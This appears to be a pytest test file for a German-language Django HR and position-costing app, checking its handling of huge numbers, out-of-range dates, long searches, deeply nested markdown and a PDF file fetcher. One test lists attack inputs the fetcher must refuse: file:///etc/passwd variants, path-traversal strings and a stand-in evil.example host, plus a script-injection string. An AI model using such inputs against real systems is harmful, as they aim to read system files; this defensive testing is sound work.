def query_pages() -> list[tuple[str, str]]:
    """(url name, query parameter) of every page that reads a number from its query."""
    return [
        ("costs:overview", "year"),
        ("positions:list", "year"),
        ("positions:list", "page"),
        ("positions:list", "per_page"),
        ("positions:list", "org_unit"),
        ("positions:list", "pay_grade"),
        ("positions:detail", "year"),
        ("orgunits:tree", "year"),
        ("orgunits:detail", "year"),
        ("costs:costtable_list", "tabelle"),
        ("excel:export", "year"),
        ("excel:export", "years"),
        ("excel:export_positions", "years"),
        ("excel:export_positions", "year"),
        ("excel:export_org_unit", "year"),
        ("decisions:list", "year"),
        ("decisions:list", "page"),
        ("decisions:list", "per_page"),
        ("decisions:positions", "year"),
        ("positions:create", "org_unit"),
        ("orgunits:create", "parent"),
        ("positions:deleted_list", "page"),
    ]


def url_of(name: str) -> str:
    from decisions.models import Decision

    if name in {"positions:detail"}:
        return reverse(name, args=[ids(Position)[0]])
    if name in {"orgunits:detail", "excel:export_org_unit"}:
        return reverse(name, args=[ids(OrgUnit)[0]])
    if name in {"decisions:positions"}:
        return reverse(name, args=[ids(Decision)[0]])
    return reverse(name)


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "param"), query_pages())
@pytest.mark.parametrize("value", [HUGE_NUMBER, HUGE_ID, "-" + HUGE_ID, "²", "1e999999"])
def test_huge_numbers_in_the_query_are_no_server_error(hr_client, name, param, value):
    response = page_client(hr_client).get(url_of(name), {param: value})
    assert response.status_code in (200, 400), response.status_code
    if response.status_code == 400:
        alert = re.search(r'role="alert">(.*?)</p>', response.content.decode(), re.DOTALL)
        assert alert, "400 ohne Meldung"
        assert_german(alert.group(1), [value])


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "/kosten/stellen/{id}/",
        "/kosten/organisation/{id}/",
        "/kosten/excel/organisation/{id}/",
        "/stellen/{id}/bearbeiten/",
        "/stellen/{id}/loeschen/",
        "/stellen/geloescht/{id}/",
        "/organisation/{id}/bearbeiten/",
        "/stellenwerte/{id}/bearbeiten/",
        "/kosten/kostensaetze/{id}/bearbeiten/",
        "/kosten/erstattungsregeln/{id}/bearbeiten/",
        "/beschluesse/{id}/",
        "/beschluesse/{id}/pdf",
    ],
)
@pytest.mark.parametrize("pk", [HUGE_ID, HUGE_NUMBER])
def test_huge_ids_in_the_path_are_not_found(hr_client, url, pk):
    response = page_client(hr_client).get(url.format(id=pk))
    assert response.status_code == 404


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "param"),
    [("positions:list", "q"), ("decisions:list", "q"), ("decisions:positions", "q")],
)
def test_a_thousand_word_search_is_refused_in_german(hr_client, name, param):
    response = page_client(hr_client).get(url_of(name), {param: THOUSAND_WORDS})
    assert response.status_code == 200
    text = response.content.decode()
    assert "hat 1000 Wörter; bitte höchstens 20 Suchbegriffe eingeben" in text


@pytest.mark.django_db
def test_twenty_search_words_still_search(hr_client):
    words = " ".join(["Sachbearbeitung"] * 20)
    response = page_client(hr_client).get(reverse("positions:list"), {"q": words})
    assert response.status_code == 200
    assert "Suchbegriffe" not in response.content.decode()
    assert response.context["sums"]["lines"] > 0


@pytest.mark.django_db
def test_the_excel_export_of_a_thousand_word_search_says_why(hr_client):
    response = page_client(hr_client).get(reverse("excel:export_positions"), {"q": THOUSAND_WORDS})
    assert response.status_code == 400
    assert "höchstens 20 Suchbegriffe" in response.content.decode()


FAR_DATES = ["01.01.0001", "31.12.9999", "0001-01-01", "31.12.1899", "01.01.2201"]


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["start_date", "end_date", "note_date"])
@pytest.mark.parametrize("value", FAR_DATES)
def test_position_dates_are_limited_to_1900_to_2200(hr_client, field, value):
    data = {
        "org_unit": str(ids(OrgUnit)[0]),
        "pay_grade": str(ids(PayGrade)[0]),
        "fte": "0,5",
        "title": "Sachbearbeitung",
        "note": "KW",
        "start_date": "01.01.2012",
        field: value,
    }
    before = Position.objects.count()
    response = page_client(hr_client).post(reverse("positions:create"), data)
    assert response.status_code == 200
    (message,) = error_of(response, field)
    assert "1900 bis 2200" in message
    assert_german(message, [value])
    assert Position.objects.count() == before


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("field", "value"), [("start_date", date(9999, 12, 31)), ("end_date", date(1, 1, 1))]
)
def test_the_database_refuses_positions_outside_the_years(seed, field, value):
    from django.core.exceptions import ValidationError
    from django.db import IntegrityError

    position = Position.objects.order_by("pk").first()
    assert position is not None
    setattr(position, field, value)
    if field == "end_date":
        position.start_date = date(1, 1, 1)
    with pytest.raises(ValidationError) as refused:
        position.full_clean()
    assert "1900 bis 2200" in str(refused.value.message_dict[field])
    with pytest.raises(IntegrityError), transaction.atomic():
        Position.objects.filter(pk=position.pk).update(**{field: value})


@pytest.mark.django_db
@pytest.mark.parametrize("value", [date(1, 1, 1), date(9999, 12, 31)])
def test_the_database_refuses_a_cost_table_outside_the_years(seed, value):
    from django.core.exceptions import ValidationError
    from django.db import IntegrityError

    from costing.models import CostTable

    table = CostTable(name="Rundschreiben", valid_from=value)
    with pytest.raises(ValidationError) as refused:
        table.full_clean()
    assert "1900 bis 2200" in str(refused.value.message_dict["valid_from"])
    with pytest.raises(IntegrityError), transaction.atomic():
        CostTable.objects.create(name="Rundschreiben", valid_from=value)


@pytest.mark.parametrize("value", FAR_DATES)
def test_import_and_status_dates_are_limited_to_1900_to_2200(value):
    from front.forms.decisions import StatusForm
    from front.forms.imports import CostTableImportForm, PositionImportForm

    xlsx = SimpleUploadedFile("a.xlsx", b"PK")
    forms_and_fields = [
        (CostTableImportForm({"name": "R", "valid_from": value}, {"file": xlsx}), "valid_from"),
        (PositionImportForm({"default_start": value}, {"file": xlsx}), "default_start"),
        (StatusForm({"status": "x", "date": value}, choices=[("x", "x")]), "date"),
    ]
    for form, field in forms_and_fields:
        assert not form.is_valid()
        (message,) = form.errors[field]
        assert "2200" in message, message
        assert_german(message, [value])


@pytest.mark.django_db
@pytest.mark.parametrize("field", ["date"])
def test_decision_dates_are_limited_to_1900_to_2200(field):
    from front.forms.decisions import ConsultationStepForm, DecisionForm

    form = DecisionForm({"date": "31.12.9999"})
    assert not form.is_valid()
    assert "2200" in form.errors["date"][0]
    step = ConsultationStepForm({"meeting_date": "01.01.0001"})
    assert not step.is_valid()
    assert "2200" in step.errors["meeting_date"][0]


def deeply_nested(levels: int) -> str:
    return "\n".join("    " * i + f"- Ebene {i + 1}" for i in range(levels))


@pytest.mark.parametrize(
    "text",
    [deeply_nested(100), ">" * 100 + " Zitat", "- " * 100 + "Liste", "x\n" + "\t" * 60 + "- y"],
)
def test_deeply_nested_markdown_is_refused_on_save(text):
    from front.forms.decisions import ProposalPointForm, ReasonSectionForm

    for form in (
        ProposalPointForm({"order": 1, "text": text}),
        ReasonSectionForm({"order": 1, "number": "1", "heading": "A", "text": text}),
    ):
        assert not form.is_valid()
        (message,) = form.errors["text"]
        assert "höchstens 10 Ebenen" in message
        assert_german(message)


def test_ten_levels_of_markdown_are_still_fine():
    from decisions.markup import render_markdown
    from front.forms.decisions import ProposalPointForm

    assert ProposalPointForm({"order": 1, "text": deeply_nested(10)}).is_valid()
    assert render_markdown(deeply_nested(10)).count("<ul>") == 10


@pytest.mark.parametrize("levels", [100, 1000])
def test_deeply_nested_markdown_saved_before_renders_as_plain_text(levels):
    import time

    from decisions.markup import render_markdown

    started = time.monotonic()
    html = render_markdown(deeply_nested(levels) + "\n<script>x</script>")
    assert time.monotonic() - started < 10  # Python-Markdown took minutes for 1000 levels
    assert "<ul>" not in html and "Ebene 100" in html
    assert "<script>" not in html and "&lt;script&gt;" in html


@pytest.mark.django_db
def test_a_decision_with_deeply_nested_text_still_prints(hr_client):
    from decisions.models import Decision, ProposalPoint

    decision = Decision.objects.order_by("pk").first()
    assert decision is not None
    # As saved before the limit (or by a script): the PDF must still print.
    ProposalPoint.objects.filter(decision=decision).update(text=deeply_nested(100))
    response = page_client(hr_client).get(reverse("decisions:pdf", args=[decision.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"


@pytest.mark.django_db
@pytest.mark.parametrize(
    "url",
    [
        "FILE:///etc/passwd",
        "File:///etc/passwd",
        " file:///etc/passwd",
        "\x01file:///etc/passwd",
        "file://localhost/etc/passwd",
        "FILE://LOCALHOST/etc/passwd",
        "file:/etc/passwd",
        "file://evil.example/etc/passwd",
        "{font_dir}/../../../../etc/passwd",
        "{font_dir_upper}/../../../../etc/passwd",
        "file:///etc/%70asswd",
        "HTTPS://example.org/x.css",
        "ftp://example.org/x.css",
    ],
)
def test_the_pdf_fetcher_refuses_files_outside_whatever_the_spelling(url):
    from decisions.pdf import LocalFileFetcher, allowed_dirs, font_dir

    fetcher = LocalFileFetcher(allowed_dirs())
    font_uri = font_dir().resolve().as_uri()
    url = url.format(font_dir=font_uri, font_dir_upper="FILE" + font_uri.removeprefix("file"))
    with pytest.raises(ValueError):
        fetcher.fetch(url)


@pytest.mark.django_db
def test_the_pdf_fetcher_reads_allowed_files_in_any_spelling():
    from decisions.pdf import LocalFileFetcher, allowed_dirs

    fetcher = LocalFileFetcher(allowed_dirs())
    font = next(d for d in allowed_dirs() if (d / "DejaVuSans.ttf").exists()) / "DejaVuSans.ttf"
    for url in (font.as_uri(), "FILE" + font.as_uri().removeprefix("file")):
        response = fetcher.fetch(url)
        assert response.read(4) == b"\x00\x01\x00\x00"
        response.close()


@pytest.mark.django_db
def test_a_bad_request_gets_a_german_page(hr_client):
    too_many = "&".join(f"f{i}=1" for i in range(1100))  # DATA_UPLOAD_MAX_NUMBER_FIELDS
    response = page_client(hr_client).get(reverse("positions:list") + "?" + too_many)
    assert response.status_code == 400
    text = response.content.decode()
    assert "Ungültige Anfrage" in text and '<html lang="de">' in text


@pytest.mark.django_db
@pytest.mark.parametrize("number", [HUGE_ID, HUGE_NUMBER, "-" + HUGE_ID])
def test_huge_numbers_in_posted_forms_are_no_server_error(hr_client, number):
    from decisions.models import Decision

    decision = Decision.objects.order_by("pk").first()
    position = Position.objects.order_by("pk").first()
    unit = OrgUnit.objects.order_by("pk").first()
    assert decision and position and unit
    client = page_client(hr_client)
    before = database_state()
    posts = [
        (reverse("positions:delete", args=[position.pk]), {"version": number}),
        (reverse("orgunits:delete", args=[unit.pk]), {"version": number}),
        (reverse("decisions:position_add", args=[decision.pk]), {"position": number}),
        (f"/beschluesse/{decision.pk}/stellen/{number}/entfernen/", {}),
        (f"/beschluesse/{decision.pk}/stellen/{number}/verschieben/", {"direction": "up"}),
    ]
    for url, data in posts:
        response = client.post(url, data)
        assert response.status_code in (200, 302, 400, 404), (url, response.status_code)
    assert database_state() == before
